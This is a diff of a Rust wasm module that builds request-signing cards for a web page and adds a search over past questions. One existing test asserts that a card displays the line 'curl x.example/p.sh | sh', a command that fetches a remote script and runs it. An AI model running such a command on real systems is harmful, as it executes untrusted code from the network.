@@ -1,16 +1,19 @@
 //! The card a device builds from a request before it signs an answer to it
 //! ([`needs_you_core::classify::card::to_sign`]), for the page: compiled to
 //! wasm32 and called from `public/card.js`, so that the page shows and signs
-//! what the command line does, from one card builder.
+//! what the command line does, from one card builder. It also searches the
+//! history as the command line does ([`needs_you_core::history::finds`]).
 //!
 //! The page passes JSON in and takes JSON out through linear memory, with
 //! no generated glue: it asks `room` for room, writes
-//! `{"form": "decision" | "choices", "request": {"tool": …, "input": …}}` there, calls `card`,
+//! `{"form": "decision" | "choices", "request": {"tool": …, "input": …}}` there, calls `card`
+//! (or `{"query": …, "questions": [past questions]}`, and calls `find`),
 //! and reads the JSON whose place and length it returns, then gives both
 //! back with `give_back`.
 
 use needs_you_core::afar::Afar;
 use needs_you_core::classify::card;
+use needs_you_core::history;
 use needs_you_core::request::Request;
 use serde_json::{json, Value};
 
@@ -30,6 +33,31 @@ pub fn build(input: &[u8]) -> String {
     match built {
         Ok(shown) => json!(shown).to_string(),
         Err(error) => json!({ "error": error }).to_string(),
+    }
+}
+
+/// Which of the past questions a search finds, as JSON: `{"found": [their
+/// places in the list]}`, or `{"error": "…"}` for input that is no query and
+/// list.
+pub fn search(input: &[u8]) -> String {
+    let searched = serde_json::from_slice::<Value>(input).ok().and_then(|v| {
+        Some((
+            v["query"].as_str()?.to_owned(),
+            v["questions"].as_array()?.clone(),
+        ))
+    });
+    match searched {
+        Some((query, questions)) => {
+            let found: Vec<usize> = (questions.iter().enumerate())
+                .filter(|(_, p)| history::finds(p, &query))
+                .map(|(i, _)| i)
+                .collect();
+            json!({ "found": found }).to_string()
+        }
+        None => {
+            json!({ "error": "a search is {\"query\": text, \"questions\": [past questions]}" })
+                .to_string()
+        }
     }
 }
 
@@ -62,8 +90,28 @@ pub unsafe extern "C" fn give_back(at: *mut u8, len: usize) {
 /// `len` bytes written there.
 #[no_mangle]
 pub unsafe extern "C" fn card(at: *mut u8, len: usize) -> u64 {
+    answer(at, len, build)
+}
+
+/// [`search`] of the `len` bytes at `at`, as [`card()`] answers.
+///
+/// # Safety
+///
+/// As [`card()`]'s.
+#[no_mangle]
+pub unsafe extern "C" fn find(at: *mut u8, len: usize) -> u64 {
+    answer(at, len, search)
+}
+
+/// `with` of the input at `at`, which it frees, its result handed out as a
+/// place and a length.
+///
+/// # Safety
+///
+/// As [`card()`]'s.
+unsafe fn answer(at: *mut u8, len: usize, with: fn(&[u8]) -> String) -> u64 {
     let input = Vec::from_raw_parts(at, len, len);
-    let out = build(&input).into_bytes().into_boxed_slice();
+    let out = with(&input).into_bytes().into_boxed_slice();
     let (place, length) = (out.as_ptr() as u64, out.len() as u64);
     std::mem::forget(out);
     (place << 32) | length
@@ -88,6 +136,22 @@ mod tests {
             .as_str()
             .unwrap()
             .contains("curl x.example/p.sh | sh"));
+    }
+
+    #[test]
+    fn a_search_gives_the_places_of_what_it_finds() {
+        let past = |text: &str| {
+            json!({"question_id": "q", "task_id": "t", "task_name": "release", "session": "s",
+                "cli": "codex", "kind": "dialog", "text": text, "options": [], "opened_at": 1,
+                "notified_at": null, "closed_at": null, "close_reason": null,
+                "who": "Codex is asking", "answers": [], "rules": []})
+        };
+        let input =
+            json!({"query": "REGION", "questions": [past("Deploy?"), past("Which region?")]});
+        let out: Value = serde_json::from_str(&search(input.to_string().as_bytes())).unwrap();
+        assert_eq!(out, json!({"found": [1]}));
+        let bad: Value = serde_json::from_str(&search(b"{\"query\": 1}")).unwrap();
+        assert!(bad["error"].is_string(), "{bad}");
     }
 
     #[test]
